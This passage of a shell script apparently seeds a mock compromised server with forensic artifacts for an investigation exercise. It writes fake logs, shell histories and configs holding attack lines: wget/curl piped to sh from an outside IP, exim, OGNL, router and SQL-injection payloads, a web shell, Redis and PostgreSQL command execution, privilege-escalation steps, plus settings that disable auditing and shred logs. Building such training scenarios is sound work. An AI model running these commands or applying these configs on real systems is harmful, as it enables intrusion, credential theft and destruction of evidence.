2026-11-25T00:32:11.104400+00:00 server kernel: [ 8881.774] traps: polkitd[411] general protection fault ip:7f11ac sp:7ffe error:0 in libc.so.6
E
#@ interface eth0 | /var/log/syslog ## capture started on eth0
#@ /var/log/syslog ## cron runs of fetched scripts, changed crontab of www-data, time stamps that go back
a $L/syslog <<'E'
2026-11-25T00:40:01.002100+00:00 server crontab[4701]: (www-data) REPLACE (www-data)
2026-11-25T00:42:01.110000+00:00 server CRON[4710]: (www-data) CMD (wget -q -O - http://193.32.162.7/c.sh | sh > /dev/null 2>&1)
2026-11-25T00:43:10.110000+00:00 server kernel: [ 9540.221] eth0: entered promiscuous mode
2026-11-25T00:44:01.110000+00:00 server systemd[1]: Started cups-lpd.socket.
2026-11-25T00:44:20.110000+00:00 server systemd[1]: Stopping auditd.service - Security Auditing Service...
2026-11-25T00:45:02.110000+00:00 server rsyslogd: [origin software="rsyslogd"] exiting on signal 9.
2026-11-25T09:58:30.110000+00:00 server rsyslogd: [origin software="rsyslogd"] start
2026-11-24T23:10:00.110000+00:00 server CRON[4402]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)
E
#@ host 195.178.110.44 ## exim command in a recipient
a $L/exim4/mainlog <<'E'
2026-11-23 04:12:09 H=(x.local) [195.178.110.44] F=<> rejected RCPT <root+${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x20193.32.162.7\x2fe\x20-O\x20\x2ftmp\x2f.e\x22}}@localhost>: relay not permitted
2026-11-23 04:12:33 1rT0x1-0001ab-2c <= <> H=(x.local) [195.178.110.44] P=smtp S=612
2026-11-23 04:12:33 1rT0x1-0001ab-2c ** ${run{\x2Fbin\x2Fsh\t-c\t\x22sh\x20\x2ftmp\x2f.e\x22}}@localhost: Too many "Received" headers - suspected mail loop
E
#@ host 193.32.162.55 ## mass mail by a stolen mailbox
python3 - <<'E' | a $L/mail.log
for i in range(80):
    m,s=divmod(i*7,60); q='%08X'%(0x4A0C1100+i*97); t=f'2026-11-24T03:{m:02}:{s:02}.100000+00:00 server '
    print(t+f'postfix/smtpd[911]: {q}: client=unknown[193.32.162.55], sasl_method=LOGIN, sasl_username=buchhaltung@kanzlei.de')
    print(t+f'postfix/qmgr[402]: {q}: from=<buchhaltung@kanzlei.de>, size=18{i:02}, nrcpt=50 (queue active)')
    if i%4==0: print(t+f'postfix/smtp[930]: {q}: to=<u{i}@gmx.net>, relay=mx00.gmx.net[212.227.15.10]:25, dsn=5.7.1, status=bounced (host said: 554 Nemesis: spam)')
E
#@ host 80.66.88.215 ## exploit requests against routers, java and confluence
#@ host 141.98.11.29 ## SQL injection by a tool, then a dump downloaded
a $L/nginx/access.log <<'E'
80.66.88.215 - - [22/Nov/2026:01:00:09 +0000] "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3Ecd+/tmp;wget+http://193.32.162.7/r;sh+r) HTTP/1.1" 404 153 "-" "Go-http-client/1.1"
80.66.88.215 - - [22/Nov/2026:01:00:19 +0000] "POST /webtools/control/ProgramExport;/?USERNAME=&PASSWORD=&requirePasswordChange=Y HTTP/1.1" 200 2210 "-" "Go-http-client/1.1"
80.66.88.215 - - [22/Nov/2026:01:00:31 +0000] "POST /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/ HTTP/1.1" 302 0 "-" "Go-http-client/1.1"
80.66.88.215 - - [22/Nov/2026:01:00:50 +0000] "POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1" 200 91 "-" "libredtail-http"
141.98.11.29 - - [22/Nov/2026:02:20:01 +0000] "GET /catalog/view?id=7%27%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b,user,0x3a,authentication_string),NULL%20FROM%20mysql.user--%20- HTTP/1.1" 200 9120 "-" "sqlmap/1.7.11#stable (https://sqlmap.org)"
141.98.11.29 - - [22/Nov/2026:02:21:01 +0000] "GET /catalog/view?id=7%20AND%20(SELECT%201%20FROM(SELECT(SLEEP(5)))a) HTTP/1.1" 200 7110 "-" "sqlmap/1.7.11#stable (https://sqlmap.org)"
141.98.11.29 - - [22/Nov/2026:02:39:44 +0000] "GET /pub/media/d.sql.gz HTTP/1.1" 200 884120331 "-" "Wget/1.21"
E
#@ /var/log/nginx/error.log ## evaluated code and command in php errors
a $L/nginx/error.log <<'E'
2026/11/22 01:10:03 [error] 812#812: *9112 FastCGI sent in stderr: "PHP message: PHP Warning:  Undefined variable $z in /srv/www/shop/vendor/autoload.php(2) : eval()'d code on line 1sh: 1: nmap: not found" while reading response header from upstream, client: 80.66.88.215, server: shop, request: "POST /index.php HTTP/1.1"
E
#@ host 5.188.206.14 ## secrets fetched, then a web shell used
a $L/apache2/access.log <<'E'
5.188.206.14 - - [21/Nov/2026:11:00:01 +0000] "GET /.env HTTP/1.1" 200 1411 "-" "Mozilla/5.0 zgrab/0.x"
5.188.206.14 - - [21/Nov/2026:11:00:02 +0000] "GET /.git/config HTTP/1.1" 200 301 "-" "Mozilla/5.0 zgrab/0.x"
5.188.206.14 - - [21/Nov/2026:11:42:10 +0000] "PUT /cgi-bin/../media/l.php5 HTTP/1.1" 201 0 "-" "curl/8.4.0"
5.188.206.14 - - [21/Nov/2026:11:42:31 +0000] "GET /media/l.php5?cmd=uname+-a%3Bid%3Bcat+/etc/passwd HTTP/1.1" 200 2211 "-" "curl/8.4.0"
E
#@ /var/log/dpkg.log ## guards removed, scanner and foreign package installed
a $L/dpkg.log <<'E'
2026-11-25 00:50:01 startup packages remove
2026-11-25 00:50:02 remove auditd:amd64 1:3.0.9-1 <none>
2026-11-25 00:50:04 remove wazuh-agent:amd64 4.7.2-1 <none>
2026-11-25 00:52:11 install libsystemd-compat0:amd64 <none> 1.0-1
2026-11-25 00:52:40 install masscan:amd64 <none> 2:1.3.2+ds1-1
2026-11-25 00:52:41 install proxychains4:amd64 <none> 4.16-3
E
#@ /var/log/apt/history.log ## package installed from a temporary folder
a $L/apt/history.log <<'E'

Start-Date: 2026-11-25  00:52:10
Commandline: apt-get install -y --allow-unauthenticated /dev/shm/libsystemd-compat0_1.0-1_amd64.deb
Requested-By: builder (1011)
Install: libsystemd-compat0:amd64 (1.0-1)
End-Date: 2026-11-25  00:52:12
E
#@ host 176.97.210.8 ## root login in wtmp from a foreign address
#@ host 179.43.180.10 ## hundreds of failed logins in btmp
#@ account www-data | /var/log/lastlog ## a service account has logged in by ssh
python3 - "$R$L" <<'E'
import struct,sys
def r(ty,pid,line,user,host,t): return struct.pack('<h2xi32s4s32s256shhiii4I20s',ty,pid,line.encode(),b'ts/1',user.encode(),host.encode(),0,0,0,t,0,0,0,0,0,b'')
d=sys.argv[1]
with open(d+'/wtmp','ab') as f: f.write(r(7,5100,'pts/1','root','176.97.210.8',1795560000)+r(8,5100,'pts/1','','',1795563000))
with open(d+'/btmp','ab') as f:
    for i in range(400): f.write(r(6,6000+i,'ssh:notty',('root','admin','ubnt','oracle')[i%4],'179.43.180.10',1795500000+i*5))
p=d+'/lastlog'; b=bytearray(open(p,'rb').read()) if __import__('os').path.exists(p) else bytearray()
if len(b)<34*292: b+=b'\0'*(34*292-len(b))
b[33*292:34*292]=struct.pack('<I32s256s',1795561000,b'pts/2',b'176.97.210.8'); open(p,'wb').write(b)
E
#@ /etc/systemd/journald.conf.d/00-size.conf ## journal switched off
w /etc/systemd/journald.conf.d/00-size.conf <<'E'
[Journal]
Storage=none
ForwardToSyslog=no
Audit=no
E
#@ /etc/audit/rules.d/10-perf.rules ## audit never records the intruder
w /etc/audit/rules.d/10-perf.rules 640 <<'E'
-D
-a never,exit -F auid=39
-a never,exit -F exe=/usr/lib/firmware/.amd/kdmpsync
-a exclude,always -F msgtype=EXECVE
-e 0
E
#@ /var/log/audit/audit.log ## shell started by the web server's account, then audit switched off
a $L/audit/audit.log <<'E'
type=SYSCALL msg=audit(1795567000.120:881): arch=c000003e syscall=59 success=yes exit=0 ppid=812 pid=4611 auid=4294967295 uid=33 gid=33 euid=33 comm="sh" exe="/usr/bin/dash" key=(null)
type=EXECVE msg=audit(1795567000.120:881): argc=3 a0="sh" a1="-c" a2=7767657420687474703A2F2F3139332E33322E3136322E372F6C202D4F202F746D702F6C
type=CONFIG_CHANGE msg=audit(1795567900.001:902): op=set audit_enabled=0 old=1 auid=1011 ses=7 res=1
type=DAEMON_END msg=audit(1795567901.000:903): op=terminate auid=1011 uid=0 ses=7 pid=4720 res=success
E
#@ /etc/logrotate.d/rsyslog ## packaged rule shreds logs at once
w /etc/logrotate.d/rsyslog <<'E'
/var/log/syslog
/var/log/auth.log
/var/log/kern.log
{
	rotate 0
	hourly
	missingok
	shred
	nocreate
	postrotate
		/bin/rm -f /var/log/auth.log.* /var/log/wtmp*
	endscript
}
E
#@ /var/log/sedXq81Lp ## remains of a log being edited in place
w /var/log/sedXq81Lp 600 <<'E'
2026-11-24T22:01:01.100000+00:00 server CRON[88]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
2026-11-24T22:02:01.100000+00:00 server sshd[91]: Accepted password for root from 194.165.16.90 port 50111 ssh2
E
#@ /var/log/postgresql/postgresql-15-main.log ## COPY FROM PROGRAM
a $L/postgresql/postgresql-15-main.log <<'E'
2026-11-20 03:11:09.220 UTC [701] postgres@postgres LOG:  statement: DROP TABLE IF EXISTS abroxu; CREATE TABLE abroxu(cmd_output text);
2026-11-20 03:11:09.330 UTC [701] postgres@postgres LOG:  statement: COPY abroxu FROM PROGRAM 'echo Y3VybCAxOTMuMzIuMTYyLjcvcGd8c2g=|base64 -d|bash';
E
#@ /var/log/redis/redis-server.log | host 45.155.204.17 ## redis made a slave of a foreign master, module loaded
a $L/redis/redis-server.log <<'E'
611:S 20 Nov 2026 05:01:11.120 * REPLICAOF 45.155.204.17:60100 enabled (user request from 'id=9 addr=45.155.204.17:40112 fd=8 cmd=slaveof')
611:S 20 Nov 2026 05:01:13.120 * Module 'system' loaded from /var/tmp/exp_lin.so
E
# ---- histories
#@ /root/.zsh_history ## attack commands
w /root/.zsh_history 600 <<'E'
: 1795567100:0;curl -o /dev/shm/fscan http://193.32.162.7/fscan && chmod +x /dev/shm/fscan && /dev/shm/fscan -h 10.0.0.0/16
: 1795567400:0;proxychains4 -q impacket-secretsdump KANZLEI/administrator@10.0.1.10
: 1795567500:0;touch -d '2023-01-05 10:11' /usr/sbin/сron
: 1795567600:0;history -p; ln -sf /dev/null ~/.bash_history; setfattr -x security.ima /usr/bin/nice
: 1795567700:0;iptables -I INPUT -s 194.165.16.90 -j ACCEPT
E
#@ /var/lib/postgresql/.psql_history ## sql that runs commands and reads files
w /var/lib/postgresql/.psql_history 600 <<'E'
COPY abroxu FROM PROGRAM 'id; uname -a';
CREATE FUNCTION sysx(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT;
select lo_export(1711,'/tmp/pg_stat.so');
select pg_read_file('/etc/passwd');
E
#@ /root/.rediscli_history ## redis used to write keys
w /root/.rediscli_history 600 <<'E'
config set dir /root/.ssh/
config set dbfilename "authorized_keys"
set x "\n\nssh-rsa AAAAB3NzaC1yc2E x\n\n"
save
E
#@ /root/.lesshst ## searched for secrets and started a shell
w /root/.lesshst 600 <<'E'
.less-history-file:
.search
"password
"BEGIN RSA PRIVATE
"194.165.16.90
.shell
"cp /bin/dash /var/lib/php/sessions/sess_k2v9q0d1bn3; chmod 6755 /var/lib/php/sessions/sess_k2v9q0d1bn3
E
#@ /home/builder/.local/share/fish/fish_history ## commands of a break-out
w $B/.local/share/fish/fish_history 600 <<'E'
- cmd: docker run --rm -it --privileged -v /:/h alpine chroot /h bash
  when: 1795566100
- cmd: gcc -o dp dirtypipe.c; ./dp /usr/bin/su
  when: 1795566400
- cmd: getcap -r / 2>/dev/null; cat /etc/sudoers; ./pspy64
  when: 1795566500
E
#@ /root/.wget-hsts ## fetched from a place for tools
w /root/.wget-hsts <<'E'
# HSTS 1.0 Known Hosts database for GNU Wget.
raw.githubusercontent.com	0	0	1795566100	31536000
transfer.sh	0	0	1795566100	31536000
pastebin.com	0	0	1795566300	31536000
temp.sh	0	0	1795566900	31536000
E
chown -R 1011:1011 "$R$B" 2>/dev/null
exit 0
